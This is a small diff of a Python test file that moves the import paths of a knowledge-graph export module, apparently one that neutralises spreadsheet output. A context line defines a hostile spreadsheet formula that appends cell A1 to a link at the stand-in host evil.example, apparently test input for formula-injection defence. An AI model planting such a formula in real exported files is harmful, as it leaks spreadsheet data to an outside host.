@@ -11,9 +11,9 @@ import pytest
 from rdflib import Graph
 
 from kg import export_network
-from kg.build import load_graph
-from kg.errors import OutputError
-from kg.netexport import network_text, neutralise
+from kg.analysis.netexport import network_text, neutralise
+from kg.core.errors import OutputError
+from kg.pipeline.build import load_graph
 from tests.conftest import run_kg, tree_snapshot
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
